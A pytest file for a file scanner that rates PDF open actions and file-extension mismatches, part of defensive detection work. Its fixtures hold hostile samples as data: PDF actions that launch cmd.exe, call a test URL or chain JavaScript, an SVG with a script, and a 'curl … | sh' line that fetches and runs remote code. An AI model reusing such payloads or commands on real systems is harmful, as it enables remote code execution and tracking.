"""False positives removed: PDF open actions that only navigate, and a mismatch between
two inert image formats; the actions that run or fetch something stay suspicious."""

from __future__ import annotations

import zlib

import pytest

from secops.scanning import Scanner, Severity, Verdict
from tests.scanning.conftest import ids
from tests.scanning.corpus import gif, pdf, png
from tests.scanning.test_pdf_streams import object_stream, pdf_with_streams

PAGES = b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] >>"


def _open_action(result) -> list[tuple[Severity, str]]:
    return [(f.severity, f.description) for f in result.findings if f.id == "pdf.open_action"]


# What office suites and LaTeX (hyperref) write: a destination or a GoTo action.
NAVIGATION = [
    b"/OpenAction [3 0 R /Fit] ",
    b"/OpenAction [3 0 R /XYZ null null 0] ",
    b"/OpenAction [ 3 0 R /FitH 792 ] /PageMode /UseOutlines ",
    b"/OpenAction << /S /GoTo /D [3 0 R /XYZ 0 792 null] >> ",
    b"/OpenAction << /Type /Action /S /GoTo /D (chapter.1) >> ",
    b"/OpenAction << /S /Named /N /FirstPage >> ",
]
RUNS_OR_FETCHES = [
    (b"/OpenAction << /S /URI /URI (http://x.test/track) >> ", "/URI"),
    (b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://x.test/) >> >> ", "/SubmitForm"),
    (b"/OpenAction << /S /ImportData /F (data.fdf) >> ", "/ImportData"),
    (b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >> ", "/GoToR"),
    (b"/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >> ", "/GoToE"),
    (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >> ",
     "/JavaScript"),
    (b"/OpenAction << /S /G#6FToR /F (\\\\\\\\host\\\\share\\\\x.pdf) >> ", "/GoToR"),
    (b"/OpenAction 9 0 R ", "could not be resolved"),
]


@pytest.mark.parametrize("body", NAVIGATION)
def test_navigation_open_action_is_informational(scanner: Scanner, body: bytes) -> None:
    result = scanner.scan_bytes(pdf(body), "manual.pdf")
    assert _open_action(result) == [
        (Severity.INFO, "PDF opens at a page or view when opened (navigation only)")]
    assert result.verdict is Verdict.CLEAN


@pytest.mark.parametrize(("body", "what"), RUNS_OR_FETCHES)
def test_open_action_that_runs_or_fetches_is_suspicious(scanner: Scanner, body: bytes,
                                                         what: str) -> None:
    result = scanner.scan_bytes(pdf(body), "form.pdf")
    [(severity, description)] = _open_action(result)
    assert severity is Severity.MEDIUM and what in description
    assert result.verdict is Verdict.SUSPICIOUS


def test_indirect_destination_in_the_body_is_resolved(scanner: Scanner) -> None:
    data = pdf(b"/OpenAction 3 0 R ")
    # object 3 of corpus.pdf() is the page itself: not an action, so still suspicious
    assert _open_action(scanner.scan_bytes(data, "a.pdf"))[0][0] is Severity.MEDIUM
    dest = data.replace(b"/OpenAction 3 0 R ", b"/OpenAction 7 0 R ").replace(
        b"xref", b"7 0 obj\n[3 0 R /FitV 0]\nendobj\nxref", 1)
    assert _open_action(scanner.scan_bytes(dest, "a.pdf"))[0][0] is Severity.INFO


@pytest.mark.parametrize(("action", "severity"), [
    (b"[4 0 R /Fit]", Severity.INFO),
    (b"<< /S /GoTo /D [4 0 R /Fit] >>", Severity.INFO),
    (b"<< /S /Launch /F (cmd.exe) >>", Severity.MEDIUM),
    (b"<< /S /URI /URI (http://x.test/) >>", Severity.MEDIUM),
])
def test_open_action_resolved_in_a_compressed_object_stream(
        scanner: Scanner, action: bytes, severity: Severity) -> None:
    catalog = b"<< /Type /Catalog /Pages 3 0 R /OpenAction 5 0 R >>"
    content, first = object_stream({2: catalog, 3: PAGES, 4: PAGE, 5: action})
    data = pdf_with_streams([(b"/Type /ObjStm /N 4 /First %d /Filter /FlateDecode" % first,
                              zlib.compress(content))])
    assert [s for s, _ in _open_action(scanner.scan_bytes(data, "a.pdf"))] == [severity]


@pytest.mark.parametrize(("name", "data"), [
    ("photo.jpg", png()),
    ("icon.png", gif()),
    ("scan.gif", png(8, 8, seed=1)),
])
def test_inert_image_format_mismatch_is_informational(scanner: Scanner, name: str,
                                                      data: bytes) -> None:
    result = scanner.scan_bytes(data, name)
    found = [f for f in result.findings if f.id == "type.extension_mismatch"]
    assert [f.severity for f in found] == [Severity.INFO]
    assert found[0].description.endswith("(both inert image formats)")
    assert result.verdict is Verdict.CLEAN


@pytest.mark.parametrize(("name", "data"), [
    ("photo.jpg", pdf()),  # a document presented as an image
    ("report.pdf", png()),  # an image presented as a document
    ("logo.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>"),
])
def test_other_mismatches_stay_suspicious(scanner: Scanner, name: str, data: bytes) -> None:
    result = scanner.scan_bytes(data, name)
    assert [f.severity for f in result.findings if f.id == "type.extension_mismatch"] == [
        Severity.MEDIUM]
    assert ids(result) and result.verdict is Verdict.SUSPICIOUS


def test_plain_text_under_a_binary_name_is_informational(scanner: Scanner) -> None:
    catalog = (b"# created by tools/loadICU.tcl -- do not edit\n"
               b"Names eval ::tcl::clock {\n"
               b"    ::msgcat::mcset af DAYS_OF_WEEK_ABBREV [list \\\n"
               b"        \"So\"\\\n        \"Ma\"]\n}\n")
    result = scanner.scan_bytes(catalog, "af.msg")
    found = [f for f in result.findings if f.id == "type.extension_mismatch"]
    assert [f.severity for f in found] == [Severity.INFO]
    assert result.verdict is Verdict.CLEAN
    # a script named as an Outlook message stays a medium mismatch
    script = b"#!/bin/sh\ncurl -s http://x.test/a | sh\n"
    assert [f.severity for f in scanner.scan_bytes(script, "mail.msg").findings
            if f.id == "type.extension_mismatch"] == [Severity.MEDIUM]
